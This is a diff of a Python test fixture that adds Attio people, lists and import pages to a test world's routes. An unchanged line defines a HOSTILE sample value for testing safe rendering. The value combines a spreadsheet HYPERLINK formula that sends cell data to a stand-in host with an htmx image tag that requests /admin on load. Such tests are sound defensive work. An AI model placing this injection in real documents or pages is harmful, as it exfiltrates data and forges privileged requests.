@@ -8,7 +8,7 @@ from typing import Any
 
 import httpx
 
-from tests.console import world_experiment
+from tests.console import world_attio, world_experiment
 
 HOSTILE = '=HYPERLINK("http://x?"&A1)<img src=x hx-get=/admin hx-trigger=load>'
 
@@ -25,6 +25,11 @@ ADDRESSES: Mapping[str, str] = {
     "cohort-changes": "/cohorts/{dynamic}/changes",
     "profile": "/profile?who=lead-03",
     "profile-find": "/profile",
+    "attio": "/attio?tab=people",
+    "attio-lists": "/attio?tab=lists",
+    "attio-imported": "/attio?tab=imported",
+    "attio-connection": "/attio/connection",
+    "import": "/attio/imports/{import}",
     "assign": "/assign?cohort={board}",
     "assignments": "/assignments",
     "assignment": "/assignments/{assignment}",
@@ -41,7 +46,7 @@ ADDRESSES: Mapping[str, str] = {
 }
 """Every page behind signing in, by the name of its picture. `{…}` is one of the world's ids."""
 
-NAMELESS = {"cohort-new", "jobs", "job", "profile-find"}
+NAMELESS = {"cohort-new", "jobs", "job", "profile-find", "attio", "attio-lists", "attio-connection", "import"}
 """Those of them that show no name of anything."""
 
 PEOPLE = (
@@ -74,6 +79,7 @@ async def build(api: httpx.AsyncClient, *, hostile: bool = False) -> dict[str, s
         "board": board,
         "job": jobs[-1]["id"],
         "assignment": assignment,
+        "import": await world_attio.build(api, name),
         **await world_experiment.build(api, cold, name),
     }
 
